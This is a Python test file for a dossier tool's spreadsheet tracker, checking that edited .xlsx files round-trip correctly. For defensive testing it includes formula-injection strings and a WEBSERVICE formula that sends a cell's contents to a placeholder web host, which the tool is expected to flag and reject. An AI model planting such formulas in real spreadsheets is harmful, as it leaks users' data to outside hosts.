"""The tracker through real files: what people and office programs do to them comes back as changes."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exodossier.domain.errors import Invalid
from exodossier.domain.records import ResponseKey
from exodossier.domain.spec import Kind
from exodossier.usecases import tracker
from exodossier.usecases.answer import AnswerOrder, answer
from exodossier.usecases.create import DossierOrder, create_dossier
from exodossier.usecases.situation import load
from exodossier.usecases.tracker_rows import ASSESSED
from exodossier.wiring.spreadsheets import LateSheets
from tests.sheets.book_samples import through_office
from tests.unit import fakes
from tests.unit.domain_samples import VOCABULARY, checklist, item, section, spec

CHECKLIST = checklist(
    section("one", item("term"), item("count", spec(Kind.INTEGER)), item("story", spec(Kind.LONGTEXT)))
)
NASTY = ("=1+1", "+x", "- no SOP", "@home", "\t=1", "two\nlines", "مرحبا", "'=quoted", "007", "1e5", "TRUE")
COLUMNS = {name: name.capitalize() for name in ASSESSED}


def desk():
    office = replace(fakes.office(VOCABULARY, CHECKLIST), sheets=LateSheets())
    dossier, _ = create_dossier(office, DossierOrder("A: dossier / 'quoted'", ("chk",)))
    return office, dossier


def fill(path, edits):
    """Write texts into cells, by item and field, as a person's program would."""
    work = openpyxl.load_workbook(path)
    table = work.worksheets[0]
    heads = {cell.value: cell.column for cell in table[1]}
    lines = {str(row[0].value).rpartition(":")[2]: row[0].row for row in table.iter_rows(min_row=2)}
    for (name, field), text in edits.items():
        cell = table.cell(lines[name], heads[COLUMNS[field]])
        cell.value = text
        cell.data_type = "s" if isinstance(text, str) and text else cell.data_type
    work.save(path)


def told(proposal):
    return {(one.key.item, one.field): one.new for one in proposal.changes}


def test_nasty_answers_go_out_and_nothing_comes_back(tmp_path):
    office, dossier = desk()
    for number, name in enumerate(("term", "count", "story")):
        texts = dict(zip(("gap", "risk", "action", "owner"), NASTY[number * 4 :], strict=False))
        answer(
            office, AnswerOrder(dossier, ResponseKey("chk", name), assessment={**texts, "due": "2027-01-31"})
        )
    path = tmp_path / "tracker.xlsx"
    tracker.write(office, dossier, path)
    assert tracker.propose(office, dossier, tracker.read(office, path)).changes == ()
    saved = through_office(path, tmp_path)
    assert tracker.propose(office, dossier, tracker.read(office, saved)).changes == ()


def test_an_edited_file_that_an_office_program_saved_comes_back(tmp_path):
    office, dossier = desk()
    path = tmp_path / "tracker.xlsx"
    tracker.write(office, dossier, path)
    edits = {("term", "gap"): "- no SOP", ("count", "due"): "2027-01-31", ("story", "verdict"): "Partly met"}
    fill(path, edits)
    work = openpyxl.load_workbook(path)
    table = work.worksheets[0]
    table.insert_rows(3)
    table["D3"] = "A remark"
    table.insert_cols(6)
    table["F1"] = "Mine"
    work.create_sheet("Notes", 0)["A1"] = "=1+1"
    work.save(path)
    found = tracker.propose(office, dossier, tracker.read(office, through_office(path, tmp_path)))
    assert told(found) == {**edits, ("story", "verdict"): "partly"}
    assert [one.code for one in found.findings] == ["tracker.no_key"]


def test_a_formula_in_an_edited_cell_is_named_with_its_place(tmp_path):
    office, dossier = desk()
    path = tmp_path / "tracker.xlsx"
    tracker.write(office, dossier, path)
    work = openpyxl.load_workbook(path)
    work.worksheets[0]["L2"] = '=WEBSERVICE("http://example.org/"&A1)'
    work.save(path)
    (change,) = tracker.propose(office, dossier, tracker.read(office, path)).changes
    assert change.place.endswith("!L2")
    with pytest.raises(Invalid) as caught:
        tracker.accept(office, dossier, [change])
    assert caught.value.findings[0].place.file.endswith("!L2")


TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc", "Cn"]), max_size=20).map(str.strip)
TEXTS |= st.sampled_from([text.strip() for text in NASTY])
VALUES = {
    "verdict": st.sampled_from(["met", "partly", "not_met"]),
    "due": st.dates(date(1990, 1, 1), date(2199, 12, 31)).map(lambda day: day.isoformat()),
}
CELLS = st.tuples(st.sampled_from(["term", "count", "story"]), st.sampled_from(ASSESSED))


@settings(max_examples=15, deadline=None)
@given(data=st.data())
def test_random_edits_come_back_and_stand(tmp_path_factory, data):
    office, dossier = desk()
    path = tmp_path_factory.mktemp("edits") / "tracker.xlsx"
    tracker.write(office, dossier, path)
    wanted = {cell: data.draw(VALUES.get(cell[1], TEXTS)) for cell in sorted(data.draw(st.sets(CELLS)))}
    wanted = {cell: text for cell, text in wanted.items() if text}
    fill(path, wanted)
    found = tracker.propose(office, dossier, tracker.read(office, path))
    assert told(found) == {cell: unquoted(text) for cell, text in wanted.items()}
    tracker.accept(office, dossier, found.changes)
    rows = tracker.rows(load(office, dossier))
    after = {(row.key.item, name): getattr(row, name) for row in rows for name in ASSESSED}
    assert {cell: text for cell, text in after.items() if text} == told(found)
    assert tracker.propose(office, dossier, tracker.read(office, path)).changes == ()
    tracker.write(office, dossier, path)
    assert tracker.propose(office, dossier, tracker.read(office, path)).changes == ()


def unquoted(text):
    """An apostrophe before a formula is a guard, whoever wrote it."""
    return text[1:] if text.lstrip("'")[:1] in set("=+-@") and text.startswith("'") else text
